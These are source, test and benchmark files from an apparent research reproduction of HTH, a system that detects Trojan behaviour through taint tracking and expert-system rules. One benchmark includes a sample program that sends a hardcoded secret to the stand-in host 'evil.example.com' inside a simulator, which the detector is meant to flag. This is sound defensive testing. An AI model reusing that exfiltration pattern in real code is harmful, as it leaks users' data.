                list(injector.injected) if injector is not None else []
            ),
            events_dropped=self.harrier.events_dropped,
            monitor_faults=list(self.harrier.monitor_faults),
            quarantined_rules=list(
                getattr(self.analyzer, "quarantined_rules", [])
            ),
            telemetry=(
                self.telemetry.snapshot()
                if self.telemetry.is_enabled
                else None
            ),
            provenance=(
                self.harrier.provenance.summary()
                if self.harrier.provenance is not None
                else None
            ),
        )


def run_monitored(
    program: Union[str, Image],
    argv: Optional[Sequence[str]] = None,
    env: Optional[Dict[str, str]] = None,
    stdin: Optional[Union[str, bytes]] = None,
    setup=None,
    policy: Optional[PolicyConfig] = None,
    harrier_config: Optional[HarrierConfig] = None,
    decision: DecisionPolicy = always_continue,
    max_ticks: Optional[int] = None,
    fault_injector: Optional["FaultInjector"] = None,
    wall_timeout: Optional[float] = None,
    telemetry: Optional[Telemetry] = None,
    options: Optional[RunOptions] = None,
    engine: Optional["EngineCache"] = None,
) -> RunReport:
    """One-shot convenience: build an HTH machine, run, report.

    ``setup(hth)`` runs before the program (seed files, register peers...).
    """
    hth = HTH(
        policy=policy,
        harrier_config=harrier_config,
        decision=decision,
        fault_injector=fault_injector,
        telemetry=telemetry,
        options=options,
        engine=engine,
    )
    if setup is not None:
        setup(hth)
    return hth.run(
        program,
        argv=argv,
        env=env,
        stdin=stdin,
        max_ticks=max_ticks,
        wall_timeout=wall_timeout,
    )
