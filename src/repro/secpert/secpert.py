"""Secpert — the security expert (paper section 6).

Receives Harrier's events, asserts them as CLIPS facts, runs the inference
engine, and collects the warnings the policy rules produce.  Facts are
ephemeral (asserted per event, retracted after the engine quiesces), which
matches the prototype's resolution protocol; the fire trace persists so
the expert system can explain its advice.
"""

from __future__ import annotations

from typing import List, Optional, Sequence

from repro.expert.engine import FiredRule, InferenceEngine
from repro.harrier.analyzer import EventAnalyzer
from repro.harrier.events import SecurityEvent
from repro.secpert.exec_flow_rules import build_exec_flow_rules
from repro.secpert.facts import ALL_TEMPLATES, event_to_fact
from repro.secpert.info_flow_rules import build_info_flow_rules
from repro.secpert.policy import PolicyConfig
from repro.secpert.resource_rules import build_resource_rules
from repro.secpert.warnings import SecurityWarning, WarningSink


class Secpert(EventAnalyzer):
    def __init__(
        self,
        policy: Optional[PolicyConfig] = None,
        rete: bool = True,
    ) -> None:
        self.policy = policy or PolicyConfig()
        self.rete = rete
        self.sink = WarningSink()
        self.engine = self._build_engine()
        #: Optional ProvenanceRecorder (repro.telemetry.provenance).
        #: When attached, every stamped warning carries an evidence
        #: trail built from the fire-trace slice its event produced.
        self.provenance = None
        self._rule_docs = {r.name: r.doc for r in self.engine.rules}

    def _build_engine(self) -> InferenceEngine:
        engine = InferenceEngine(rete=self.rete)
        for template in ALL_TEMPLATES:
            engine.define_template(template)
        for rule in (
            build_exec_flow_rules(self.policy)
            + build_resource_rules(self.policy)
            + build_info_flow_rules(self.policy)
        ):
            engine.add_rule(rule)
        engine.context["warn"] = self.sink
        engine.context["policy"] = self.policy
        return engine

    def distrust(self, name: str) -> None:
        """Withdraw name-based trust from ``name`` and rebuild the rules.

        The policy is baked into every rule closure at engine-build
        time, so narrowing it means rebuilding the engine — the warning
        sink, provenance recorder, and any attached metrics registry
        carry over.  Called by :meth:`repro.core.hth.HTH.run` before
        spawn when the monitored program itself carries a trusted name
        (the masquerade evasion; see docs/adversarial.md).
        """
        if name not in self.policy.trusted_binaries:
            return
        metrics = self.engine.metrics
        self.policy = self.policy.distrusting(name)
        self.engine = self._build_engine()
        self.engine.metrics = metrics
        self._rule_docs = {r.name: r.doc for r in self.engine.rules}

    def attach_telemetry(self, telemetry) -> None:
        """Wire the engine's metrics hooks to a live registry."""
        if getattr(telemetry, "is_enabled", False):
            self.engine.metrics = telemetry.metrics

    def attach_provenance(self, recorder) -> None:
        """Stamp evidence trails onto warnings via this recorder."""
        self.provenance = recorder

    # -- EventAnalyzer ---------------------------------------------------------
    def analyze(self, event: SecurityEvent) -> Sequence[SecurityWarning]:
        fact = event_to_fact(event)
        if fact is None:
            return ()
        before = len(self.sink)
        trace_before = len(self.engine.fire_trace)
        self.engine.assert_fact(fact)
        self.engine.run()
        self.engine.retract(fact)
        new = self.sink.warnings[before:]
        fired = self.engine.fire_trace[trace_before:]
        # Stamp the triggering event (and, when a provenance recorder is
        # attached, the evidence trail) onto the warnings.
        recorder = self.provenance
        stamped = [
            SecurityWarning(
                severity=w.severity,
                rule=w.rule,
                headline=w.headline,
                details=w.details,
                event=event,
                pid=w.pid,
                time=w.time,
                evidence=(
                    recorder.evidence_for(
                        w, event, fact, fired, self._rule_docs
                    )
                    if recorder is not None
                    else None
                ),
            )
            for w in new
        ]
        self.sink.warnings[before:] = stamped
        return stamped

    # -- queries -------------------------------------------------------------
    @property
    def warnings(self) -> List[SecurityWarning]:
        return self.sink.warnings

    @property
    def quarantined_rules(self) -> List[str]:
        """Names of rules the engine disabled after they raised."""
        return sorted(self.engine.quarantined)

    def explanations(self) -> List[FiredRule]:
        """The engine's fire trace (which rule fired on which facts)."""
        return list(self.engine.fire_trace)

    def explain(self, warning: SecurityWarning) -> str:
        """A CLIPS-style explanation of one warning (appendix A shapes):
        the asserted fact that triggered it, the production that fired,
        and the advice — "an expert system can give the user all of the
        information that was used to reach its conclusion" (§6.2.1)."""
        from repro.expert.clips_format import render_assert
        from repro.secpert.facts import event_to_fact

        lines = []
        if warning.event is not None:
            fact = event_to_fact(warning.event)
            if fact is not None:
                lines.append(render_assert(fact))
                lines.append("")
        rule = next(
            (r for r in self.engine.rules if r.name == warning.rule), None
        )
        lines.append(f"FIRE {warning.rule}")
        if rule is not None and rule.doc:
            lines.append(f"  ; {rule.doc}")
        lines.append("")
        lines.append(warning.render())
        return "\n".join(lines)

    def render_warnings(self) -> str:
        return self.sink.render_all()
