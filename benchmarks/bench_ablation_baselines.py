"""Ablations and baselines (DESIGN.md's design-choice studies).

1. **Single taint bit vs multi-source tags** (section 5.1's argument):
   the Perl-taint-mode policy inverts HTH's answers on the Table 6
   matrix — it flags user-driven flows and misses hardcoded ones.
2. **Routine short circuit off** (section 7.2): without it, a hardcoded
   host name resolves to an address tagged FILE(/etc/hosts) and the
   hardcoded-socket classification degrades.
3. **BB frequency off** (section 7.4): the "Infrequent execve" row
   loses its Medium upgrade.
4. **stide baseline** (section 3.2): sequence anomaly detection needs
   behaviourally-novel traces; it cannot see *why* a call is suspicious.
"""

from benchmarks.harness import once, render_table, write_result
from repro.baselines.single_taint import (
    accuracy,
    evaluate_single_bit,
    hth_accuracy,
)
from repro.baselines.stide import evaluate_stide
from repro.core.report import Verdict
from repro.harrier.config import HarrierConfig
from repro.programs.micro.execflow import table4_workloads
from repro.programs.micro.infoflow import table6_workloads
from repro.programs.micro.resource import table5_workloads
from repro.programs.trusted.registry import table7_workloads


def bench_ablation_single_bit(benchmark):
    results = once(
        benchmark, lambda: evaluate_single_bit(table6_workloads())
    )
    rows = [
        (r.name, "flag" if r.flagged else "-",
         r.hth_verdict.value, r.expected_verdict.value,
         "yes" if r.correct else "NO", "yes" if r.hth_correct else "NO")
        for r in results
    ]
    text = render_table(
        "Ablation: single taint bit vs HTH multi-source tags (Table 6)",
        ("benchmark", "single-bit", "HTH", "expected",
         "single-bit ok", "HTH ok"),
        rows,
    )
    acc = accuracy(results)
    hth_acc = hth_accuracy(results)
    text += (
        f"\nsingle-bit accuracy: {acc:.2f}    "
        f"HTH accuracy: {hth_acc:.2f}\n"
    )
    write_result("ablation_single_bit.txt", text)
    print("\n" + text)
    assert hth_acc == 1.0
    assert acc < 0.5  # the single bit gets the matrix mostly wrong


#: Exfiltration client whose *host* is hardcoded but whose port comes
#: from the user: only the gethostbyname short circuit lets Harrier see
#: that the connect address is hardcoded.
_SC_PROBE_SOURCE = r"""
main:
    mov ebp, esp
    mov ebx, host
    call gethostbyname
    mov esi, eax            ; ip
    load eax, [ebp+2]
    load ebx, [eax+1]       ; argv[1] = port (user input)
    call atoi
    mov edx, eax
    mov ecx, esi
    call socket
    mov ebx, eax
    call connect_addr
    mov ecx, payload
    call fputs
    mov eax, 0
    ret
.data
host: .asciz "evil.example.com"
payload: .asciz "hardcoded-secret"
"""


def bench_ablation_short_circuit(benchmark):
    from repro.kernel.network import SinkPeer
    from repro.programs.base import Workload

    target = Workload(
        name="sc-probe",
        program_path="/bin/sc_probe",
        source=_SC_PROBE_SOURCE,
        setup=lambda hth: hth.network.add_peer(
            "evil.example.com", 4000, lambda: SinkPeer("sink")
        ),
        argv=["/bin/sc_probe", "4000"],
        expected_verdict=Verdict.LOW,
    )

    def run_both():
        with_sc = target.run()
        without_sc = target.run(
            harrier_config=HarrierConfig(short_circuit_routines=False)
        )
        return with_sc, without_sc

    with_sc, without_sc = once(benchmark, run_both)
    rows = [
        ("short circuit ON", with_sc.verdict.value,
         ",".join(sorted({w.rule for w in with_sc.warnings})) or "-"),
        ("short circuit OFF", without_sc.verdict.value,
         ",".join(sorted({w.rule for w in without_sc.warnings})) or "-"),
    ]
    text = render_table(
        "Ablation: gethostbyname short circuit (section 7.2)",
        ("configuration", "verdict", "rules fired"),
        rows,
    )
    write_result("ablation_short_circuit.txt", text)
    print("\n" + text)
    # with the short circuit the hardcoded address is recognized (Low);
    # without it the address appears to come from /etc/hosts and the
    # hardcoded-socket rule goes quiet: the Trojan is MISSED
    assert with_sc.verdict is Verdict.LOW
    assert without_sc.verdict is Verdict.BENIGN


def bench_ablation_bb_frequency(benchmark):
    workloads = {w.name: w for w in table4_workloads()}
    target = workloads["Infrequent execve"]

    def run_both():
        with_bb = target.run()
        without_bb = target.run(
            harrier_config=HarrierConfig(track_bb_frequency=False)
        )
        return with_bb, without_bb

    with_bb, without_bb = once(benchmark, run_both)
    rows = [
        ("bb frequency ON", with_bb.verdict.value),
        ("bb frequency OFF", without_bb.verdict.value),
    ]
    text = render_table(
        "Ablation: basic-block frequency (section 7.4)",
        ("configuration", "Infrequent-execve verdict"),
        rows,
    )
    write_result("ablation_bb_frequency.txt", text)
    print("\n" + text)
    assert with_bb.verdict is Verdict.MEDIUM
    # without frequency evidence the rarity upgrade is lost
    assert without_bb.verdict is Verdict.LOW


def bench_baseline_stide(benchmark):
    trusted = table7_workloads()
    forkers = table5_workloads()
    train = [w for w in trusted if w.name in
             ("ls", "column", "awk", "tail", "diff", "wc", "bc")]
    tests = (
        [(w, False) for w in trusted if w.name in ("ls", "wc", "pico")]
        + [(w, True) for w in forkers]
    )
    results = once(
        benchmark,
        lambda: evaluate_stide(train, tests, window=4, threshold=0.1),
    )
    rows = [
        (r.name, f"{r.score:.2f}", "flag" if r.flagged else "-",
         "malicious" if r.should_flag else "benign",
         "yes" if r.correct else "NO")
        for r in results
    ]
    text = render_table(
        "Baseline: stide syscall-sequence anomaly detection (section 3.2)",
        ("workload", "anomaly score", "stide", "ground truth", "correct"),
        rows,
    )
    write_result("baseline_stide.txt", text)
    print("\n" + text)
    # stide catches behaviourally-novel fork bombs...
    assert all(r.flagged for r in results if r.should_flag)
    # ...but its verdicts carry no severities, resources, or explanations
    # (which is the qualitative gap HTH's expert system fills).
