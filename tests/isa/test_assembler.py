"""Assembler tests: syntax, layout, symbols, relocations, basic blocks."""

import pytest

from repro.isa import (
    AssemblyError,
    Imm,
    Mem,
    Opcode,
    Reg,
    assemble,
)


def test_simple_program_layout():
    img = assemble(
        "/bin/t",
        """
        .text
        main:
            mov eax, 1
            int 0x80
        .data
        msg: .asciz "hi"
        """,
    )
    assert img.text_size == 2
    assert img.data_size == 3  # 'h' 'i' NUL
    assert img.symbols["main"] == 0
    assert img.symbols["msg"] == 2
    assert img.data[2] == ord("h")
    assert img.data[4] == 0
    assert img.entry_offset == 0


def test_operand_kinds():
    img = assemble(
        "t",
        """
        start:
            mov ebx, 0x10
            mov ecx, 'A'
            load edx, [ebx+2]
            store [ebx-1], ecx
            add eax, ebx
            cmp eax, -5
        """,
    )
    mov_hex = img.text[0]
    assert mov_hex.opcode is Opcode.MOV
    assert mov_hex.b == Imm(0x10)
    assert img.text[1].b == Imm(ord("A"))
    assert img.text[2].b == Mem("ebx", 2)
    assert img.text[3].a == Mem("ebx", -1)
    assert img.text[4].b == Reg("ebx")
    assert img.text[5].b == Imm(-5)


def test_label_reference_creates_relocation():
    img = assemble(
        "t",
        """
        main:
            mov ebx, msg
            call print
        .data
        msg: .asciz "x"
        """,
    )
    symbols = {r.symbol for r in img.text_relocations}
    assert symbols == {"msg", "print"}
    assert "print" in img.externs
    assert "msg" not in img.externs


def test_data_word_relocation_and_values():
    img = assemble(
        "t",
        """
        main: nop
        .data
        tbl: .word 1, 0x10, 'z', other
        """,
    )
    base = img.symbols["tbl"]
    assert img.data[base] == 1
    assert img.data[base + 1] == 0x10
    assert img.data[base + 2] == ord("z")
    assert img.data_relocations[0].symbol == "other"
    assert img.data_relocations[0].offset == base + 3
    assert "other" in img.externs


def test_space_directive():
    img = assemble(
        "t",
        """
        main: nop
        .data
        buf: .space 8
        after: .word 7
        """,
    )
    assert img.symbols["after"] - img.symbols["buf"] == 8
    assert img.data_size == 9


def test_space_with_fill():
    img = assemble("t", "main: nop\n.data\nb: .space 3, 0xFF")
    base = img.symbols["b"]
    assert img.data[base] == 0xFF
    assert img.data[base + 2] == 0xFF


def test_string_escapes():
    img = assemble("t", 'main: nop\n.data\ns: .asciz "a\\n\\t\\"\\\\"')
    base = img.symbols["s"]
    chars = [img.data[base + i] for i in range(5)]
    assert chars == [ord("a"), 10, 9, ord('"'), ord("\\")]


def test_comments_stripped_but_not_inside_strings():
    img = assemble(
        "t",
        """
        main: nop ; trailing comment
        # whole-line comment
        .data
        s: .asciz "semi;colon#hash"
        """,
    )
    text = "".join(
        chr(img.data[img.symbols["s"] + i]) for i in range(15)
    )
    assert text == "semi;colon#hash"


def test_multiple_labels_same_address():
    img = assemble("t", "a:\nb:\n  nop\n")
    assert img.symbols["a"] == img.symbols["b"] == 0


def test_basic_block_leaders():
    img = assemble(
        "t",
        """
        main:
            mov eax, 0      ; 0 leader (entry + label)
        loop:
            add eax, 1      ; 1 leader (branch target + label)
            cmp eax, 10
            jl loop         ; 3
            nop             ; 4 leader (after control transfer)
            ret             ; 5
        """,
    )
    assert img.bb_leaders == frozenset({0, 1, 4})


def test_duplicate_label_rejected():
    with pytest.raises(AssemblyError):
        assemble("t", "a: nop\na: nop")


def test_unknown_mnemonic_rejected():
    with pytest.raises(AssemblyError):
        assemble("t", "frobnicate eax, 1")


def test_bad_operand_count():
    with pytest.raises(AssemblyError):
        assemble("t", "mov eax")
    with pytest.raises(AssemblyError):
        assemble("t", "ret eax")


def test_bad_operand_kind():
    with pytest.raises(AssemblyError):
        assemble("t", "mov 5, eax")
    with pytest.raises(AssemblyError):
        assemble("t", "load eax, ebx")
    with pytest.raises(AssemblyError):
        assemble("t", "jmp eax")


def test_instruction_in_data_section_rejected():
    with pytest.raises(AssemblyError):
        assemble("t", ".data\nmov eax, 1")


def test_unterminated_string_rejected():
    with pytest.raises(AssemblyError):
        assemble("t", 'main: nop\n.data\ns: .asciz "oops')


def test_unknown_directive_rejected():
    with pytest.raises(AssemblyError):
        assemble("t", ".data\n.quad 5")


def test_trailing_label_gets_nop():
    img = assemble("t", "main: nop\nend:")
    assert img.symbols["end"] == 1
    assert img.text[1].opcode is Opcode.NOP


def test_indirect_call_allowed():
    img = assemble("t", "main: call eax")
    assert img.text[0].a == Reg("eax")


def test_negative_space_rejected():
    with pytest.raises(AssemblyError):
        assemble("t", "main: nop\n.data\nb: .space -1")


def test_mnemonic_like_label_not_confused():
    # "mov:" would be ambiguous; the parser treats mnemonic-named labels as
    # instructions, so defining such a label is a syntax error.
    with pytest.raises(AssemblyError):
        assemble("t", "mov: nop")


def test_image_size_and_repr():
    img = assemble("t", "main: nop\n.data\nb: .space 4")
    assert img.size == 5
    assert img.defines("main")
    assert not img.defines("ghost")
    assert img.exported_symbols() == {"main": 0, "b": 1}
