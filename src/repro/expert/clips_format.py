"""CLIPS s-expression rendering (paper Appendix A).

The paper shows Secpert's artifacts in CLIPS syntax — asserted facts
(A.1), rule firings (A.3).  These renderers produce the same shapes from
the live objects, so traces read like the appendix::

    CLIPS> (assert (system_call_access
        (system_call_name SYS_execve)
        (resource_name "/bin/ls")
        ...))

    FIRE 1 check_execve: f-43,f-42,f-5
"""

from __future__ import annotations

import re
from typing import Any, List

from repro.expert.engine import FiredRule
from repro.expert.template import Fact
from repro.taint.tags import Tag, TagSet


_SYMBOL_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")


def _render_value(value: Any) -> str:
    if isinstance(value, str):
        # CLIPS symbols (SYS_execve, FILE) print bare; anything else is a
        # string literal — matching the appendix's quoting.
        if _SYMBOL_RE.match(value):
            return value
        return f'"{value}"'
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if value is None:
        return "nil"
    if isinstance(value, TagSet):
        return " ".join(_render_value(tag) for tag in value) or "nil"
    if isinstance(value, Tag):
        if value.name is None:
            return value.source.value
        return f'{value.source.value} "{value.name}"'
    if isinstance(value, (tuple, list)):
        inner = " ".join(_render_value(v) for v in value)
        return inner or "nil"
    return str(value)


def render_fact(fact: Fact, indent: int = 4) -> str:
    """One fact as a CLIPS ``assert`` form (Appendix A.1 style)."""
    pad = " " * indent
    lines = [f"(assert ({fact.name}"]
    for slot in fact.template.slots:
        value = fact.values[slot]
        lines.append(f"{pad}({slot} {_render_value(value)})")
    lines.append(")")
    lines.append(")")
    return "\n".join(lines)


def render_assert(fact: Fact) -> str:
    """With the interactive prompt, exactly as the appendix shows."""
    return "CLIPS> " + render_fact(fact)


def render_firing(index: int, fired: FiredRule) -> str:
    """One agenda firing (Appendix A.3 style)."""
    ids = ",".join(f"f-{fid}" for fid in fired.fact_ids)
    return f"FIRE {index} {fired.rule_name}: {ids}"


def render_fire_trace(trace: List[FiredRule]) -> str:
    return "\n".join(
        render_firing(i, fired) for i, fired in enumerate(trace, start=1)
    )
