"""Routine-level dataflow short circuit (paper section 7.2).

``gethostbyname`` translates a host *name* into a network *address* by
consulting a hosts file or a DNS server, so naive dataflow tags the result
with the translation table's source (here FILE("/etc/hosts")) instead of
the queried name's source.  The paper's fix: treat the routine as atomic
and copy the input name's tag onto the result.

Mechanically: on a CALL into a registered routine, capture the tag of the
name string (first argument, in ``ebx``) and remember the return address
and expected stack depth; on the matching RET, overwrite ``eax``'s shadow
tag with the captured tag.
"""

from __future__ import annotations

from repro.harrier.dataflow import InstructionDataFlow
from repro.harrier.state import ProcessShadow, ShortCircuitFrame
from repro.kernel.process import Process


class RoutineShortCircuit:
    def __init__(self, dataflow: InstructionDataFlow) -> None:
        self._dataflow = dataflow

    def on_step(
        self, proc: Process, shadow: ProcessShadow, step
    ) -> None:
        """Track CALL/RET bookkeeping for one step-like record.

        ``step`` is any object carrying ``call_target``,
        ``call_return_addr`` and ``ret_target`` — a :class:`StepResult`
        from the interpreter, or a :class:`BlockRecord` from the block
        cache (CALL/RET always terminate a block, so the live register
        state at hook time is the same in both paths).
        """
        if step.call_target is not None:
            symbol = shadow.routine_addrs.get(step.call_target)
            if symbol is not None:
                name_ptr = proc.cpu.regs.get("ebx")
                tags = self._dataflow.string_tags(proc, shadow, name_ptr)
                shadow.frames.append(
                    ShortCircuitFrame(
                        symbol=symbol,
                        return_addr=step.call_return_addr,
                        # The CALL pushed the return address, so esp after
                        # the matching RET is one above the current esp.
                        sp_after_ret=proc.cpu.regs.get("esp") + 1,
                        tags=tags,
                    )
                )
            return
        if step.ret_target is None or not shadow.frames:
            return
        frame = shadow.frames[-1]
        if (
            step.ret_target == frame.return_addr
            and proc.cpu.regs.get("esp") == frame.sp_after_ret
        ):
            shadow.frames.pop()
            # The routine's result (eax) now carries the *name's* tags.
            shadow.regs.set("eax", frame.tags)
