"""Metrics registry: instruments, labels, the NullSink contract."""

import pytest

from repro.telemetry import MetricsRegistry, NullSink
from repro.telemetry.metrics import _NULL_INSTRUMENT


class TestCounter:
    def test_inc_defaults_to_one(self):
        reg = MetricsRegistry()
        c = reg.counter("hits_total")
        c.inc()
        c.inc(2.5)
        assert c.value == 3.5

    def test_counter_rejects_decrease(self):
        c = MetricsRegistry().counter("hits_total")
        with pytest.raises(ValueError):
            c.inc(-1)

    def test_get_or_create_returns_same_handle(self):
        reg = MetricsRegistry()
        assert reg.counter("x") is reg.counter("x")

    def test_label_sets_are_distinct_instruments(self):
        reg = MetricsRegistry()
        a = reg.counter("syscalls_total", name="SYS_open")
        b = reg.counter("syscalls_total", name="SYS_read")
        a.inc(3)
        b.inc()
        assert a is not b
        assert reg.value("syscalls_total", name="SYS_open") == 3
        assert reg.total("syscalls_total") == 4

    def test_label_order_does_not_matter(self):
        reg = MetricsRegistry()
        a = reg.counter("m", x="1", y="2")
        b = reg.counter("m", y="2", x="1")
        assert a is b


class TestGauge:
    def test_set_inc_dec(self):
        g = MetricsRegistry().gauge("live_cells")
        g.set(10)
        g.inc(5)
        g.dec(2)
        assert g.value == 13

    def test_gauge_and_counter_namespaces_are_separate(self):
        reg = MetricsRegistry()
        reg.counter("n").inc(7)
        reg.gauge("n").set(1)
        assert reg.total("n") == 8  # both kinds sum in total()


class TestHistogram:
    def test_summary_statistics(self):
        h = MetricsRegistry().histogram("latency_seconds")
        for v in (0.5, 1.5, 1.0):
            h.observe(v)
        assert h.count == 3
        assert h.total == 3.0
        assert h.min == 0.5
        assert h.max == 1.5
        assert h.mean == 1.0

    def test_bucket_overflow_counts(self):
        h = MetricsRegistry().histogram("latency_seconds")
        h.observe(1e6)  # beyond the last bound -> overflow bucket
        assert h.bucket_counts[-1] == 1

    def test_empty_histogram_mean(self):
        assert MetricsRegistry().histogram("h").mean == 0.0


class TestRegistryReading:
    def test_value_of_untouched_metric_is_none(self):
        assert MetricsRegistry().value("never") is None

    def test_samples_are_json_ready(self):
        import json

        reg = MetricsRegistry()
        reg.counter("c", k="v").inc()
        reg.gauge("g").set(2)
        reg.histogram("h").observe(0.5)
        samples = json.loads(json.dumps(reg.samples()))
        by_name = {s["name"]: s for s in samples}
        assert by_name["c"]["labels"] == {"k": "v"}
        assert by_name["c"]["value"] == 1
        assert by_name["g"]["value"] == 2
        assert by_name["h"]["count"] == 1
        assert by_name["h"]["mean"] == 0.5

    def test_render_mentions_every_instrument(self):
        reg = MetricsRegistry()
        reg.counter("alpha_total").inc()
        reg.histogram("beta_seconds", rule="r1").observe(0.1)
        text = reg.render()
        assert "alpha_total 1" in text
        assert "beta_seconds{rule=r1}" in text

    def test_len_counts_instruments(self):
        reg = MetricsRegistry()
        reg.counter("a")
        reg.counter("a", l="1")
        reg.gauge("b")
        assert len(reg) == 3


class TestNullSink:
    def test_disabled_flag(self):
        assert NullSink().enabled is False
        assert MetricsRegistry().enabled is True

    def test_all_instruments_are_the_shared_noop(self):
        sink = NullSink()
        assert sink.counter("a") is _NULL_INSTRUMENT
        assert sink.gauge("b", l="1") is _NULL_INSTRUMENT
        assert sink.histogram("c") is _NULL_INSTRUMENT

    def test_noop_instrument_accepts_all_updates(self):
        sink = NullSink()
        sink.counter("a").inc(5)
        sink.gauge("b").set(3)
        sink.gauge("b").dec()
        sink.histogram("c").observe(1.0)
        assert sink.samples() == []
        assert sink.total("a") == 0.0
        assert sink.value("a") is None
        assert len(sink) == 0
