"""Assembled binary images.

An :class:`Image` is the output of the assembler: position-independent text
and data plus a symbol table and relocation records.  The kernel's loader
(paper section 7.3.2, "Data flow & Loader events") places images at a base
address, applies relocations, and tags every loaded cell with the BINARY
data source — that is how "hardcoded" values become detectable.

Offsets use a single unified space: ``[0, text_size)`` addresses the
instructions, ``[text_size, size)`` addresses the data cells.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, FrozenSet, Optional, Tuple


@dataclass(frozen=True)
class TextRelocation:
    """Patch operand ``slot`` ('a' or 'b') of instruction ``index`` so its
    immediate value becomes the absolute address of ``symbol``."""

    index: int
    slot: str
    symbol: str


@dataclass(frozen=True)
class DataRelocation:
    """Patch the data cell at ``offset`` (unified-space offset) so it holds
    the absolute address of ``symbol``."""

    offset: int
    symbol: str


@dataclass(frozen=True)
class Image:
    """One assembled unit (an executable or a shared object)."""

    #: Path-like identity, e.g. ``/bin/ls`` or ``libc.so``.  Warnings quote
    #: this name ("originated from BINARY(...)"), so it should look like the
    #: on-disk path of the binary.
    name: str
    text: Tuple["Instruction", ...]  # noqa: F821 - forward ref, see isa.instructions
    #: Initialized data cells, keyed by unified-space offset.
    data: Dict[int, int] = field(default_factory=dict)
    #: Total data extent (includes .space gaps beyond the initialized cells).
    data_size: int = 0
    #: Symbol table: name -> unified-space offset.
    symbols: Dict[str, int] = field(default_factory=dict)
    text_relocations: Tuple[TextRelocation, ...] = ()
    data_relocations: Tuple[DataRelocation, ...] = ()
    #: Basic-block leader offsets within text.
    bb_leaders: FrozenSet[int] = frozenset()
    #: Symbols referenced but not defined here (satisfied by shared objects).
    externs: FrozenSet[str] = frozenset()

    @property
    def text_size(self) -> int:
        return len(self.text)

    @property
    def size(self) -> int:
        return self.text_size + self.data_size

    @property
    def entry_offset(self) -> Optional[int]:
        """Offset of ``main`` when defined (the conventional entry point)."""
        return self.symbols.get("main")

    def defines(self, symbol: str) -> bool:
        return symbol in self.symbols

    def exported_symbols(self) -> Dict[str, int]:
        """All symbols are exported (the mini-ISA has no visibility rules)."""
        return dict(self.symbols)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"Image({self.name!r}, text={self.text_size}, "
            f"data={self.data_size}, symbols={len(self.symbols)})"
        )
