"""Table 4 — execution-flow micro-benchmarks.

Regenerates the paper's Table 4: four execve micro-benchmarks whose
process-name origins differ (user / hardcoded / remote / infrequent),
all classified correctly by HTH.
"""

from benchmarks.harness import (
    assert_all_match,
    emit_classification_table,
    once,
    run_workloads,
)
from repro.programs.micro.execflow import table4_workloads


def bench_table4_execution_flow(benchmark):
    results = once(benchmark, lambda: run_workloads(table4_workloads()))
    emit_classification_table(
        "Table 4: HTH Micro benchmarks - Execution Flow",
        "table4_execflow.txt",
        results,
    )
    assert_all_match(results)
