"""Instruction-level taint propagation tests (driven end-to-end through
small guest programs so real StepResults exercise the module)."""

from repro.core.hth import HTH
from repro.harrier.state import ProcessShadow
from repro.isa import assemble
from repro.taint import DataSource, Tag


def run_and_get_shadow(source, path="/bin/t", setup=None, stdin=None):
    hth = HTH()
    if setup:
        setup(hth)
    proc = None
    original_spawn = hth.kernel.spawn

    def capture_spawn(*args, **kwargs):
        nonlocal proc
        proc = original_spawn(*args, **kwargs)
        return proc

    hth.kernel.spawn = capture_spawn
    report = hth.run(assemble(path, source), stdin=stdin)
    shadow = hth.harrier.shadow(proc)
    return report, shadow, proc, hth


class TestBinaryTagging:
    def test_data_section_tagged_binary(self):
        source = """
main:
    mov eax, 0
    ret
.data
secret: .asciz "xyz"
"""
        report, shadow, proc, hth = run_and_get_shadow(source)
        addr = proc.image_map.app.symbol_addr("secret")
        tags = shadow.memory.get(addr)
        assert Tag(DataSource.BINARY, "/bin/t") in tags

    def test_libc_data_tagged_with_libc(self):
        report, shadow, proc, hth = run_and_get_shadow(
            "main:\n  mov eax, 0\n  ret"
        )
        libc = [li for li in proc.image_map if li.name == "/lib/libc.so"][0]
        tags = shadow.memory.get(libc.symbol_addr("sh_path"))
        assert Tag(DataSource.BINARY, "/lib/libc.so") in tags

    def test_immediate_produces_binary_tag(self):
        source = """
main:
    mov ebx, 1234
    mov edi, cell
    store [edi], ebx
    mov eax, 0
    ret
.data
cell: .space 1
"""
        report, shadow, proc, hth = run_and_get_shadow(source)
        addr = proc.image_map.app.symbol_addr("cell")
        assert Tag(DataSource.BINARY, "/bin/t") in shadow.memory.get(addr)


class TestPropagation:
    def test_alu_unions_operands(self):
        # value = hardcoded + user-input cell -> both tags
        source = """
main:
    mov ebp, esp
    load eax, [ebp+2]      ; argv array (USER INPUT cells)
    load eax, [eax+0]      ; argv[0] pointer
    load ebx, [eax]        ; first character (USER INPUT)
    mov ecx, 5             ; immediate (BINARY)
    add ebx, ecx
    mov edi, cell
    store [edi], ebx
    mov eax, 0
    ret
.data
cell: .space 1
"""
        report, shadow, proc, hth = run_and_get_shadow(source)
        addr = proc.image_map.app.symbol_addr("cell")
        tags = shadow.memory.get(addr)
        assert tags.has_source(DataSource.USER_INPUT)
        assert tags.has_source(DataSource.BINARY)

    def test_xor_self_clears(self):
        source = """
main:
    mov ebx, 7             ; BINARY-tagged
    xor ebx, ebx           ; constant-zero idiom clears the taint
    mov edi, cell
    store [edi], ebx
    mov eax, 0
    ret
.data
cell: .space 1
"""
        report, shadow, proc, hth = run_and_get_shadow(source)
        addr = proc.image_map.app.symbol_addr("cell")
        assert shadow.memory.get(addr).is_empty()

    def test_cpuid_tags_hardware(self):
        source = """
main:
    cpuid
    mov edi, cell
    store [edi], eax
    mov eax, 0
    ret
.data
cell: .space 1
"""
        report, shadow, proc, hth = run_and_get_shadow(source)
        addr = proc.image_map.app.symbol_addr("cell")
        assert shadow.memory.get(addr).has_source(DataSource.HARDWARE)

    def test_initial_stack_is_user_input(self):
        source = """
main:
    mov ebp, esp
    load ebx, [ebp+1]      ; argc
    mov edi, cell
    store [edi], ebx
    mov eax, 0
    ret
.data
cell: .space 1
"""
        report, shadow, proc, hth = run_and_get_shadow(source)
        addr = proc.image_map.app.symbol_addr("cell")
        assert shadow.memory.get(addr).has_source(DataSource.USER_INPUT)

    def test_file_read_tags_buffer(self):
        source = """
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 8
    call read
    mov eax, 0
    ret
.data
path: .asciz "/tmp/data"
buf: .space 8
"""

        def setup(hth):
            hth.fs.write_text("/tmp/data", "12345678")

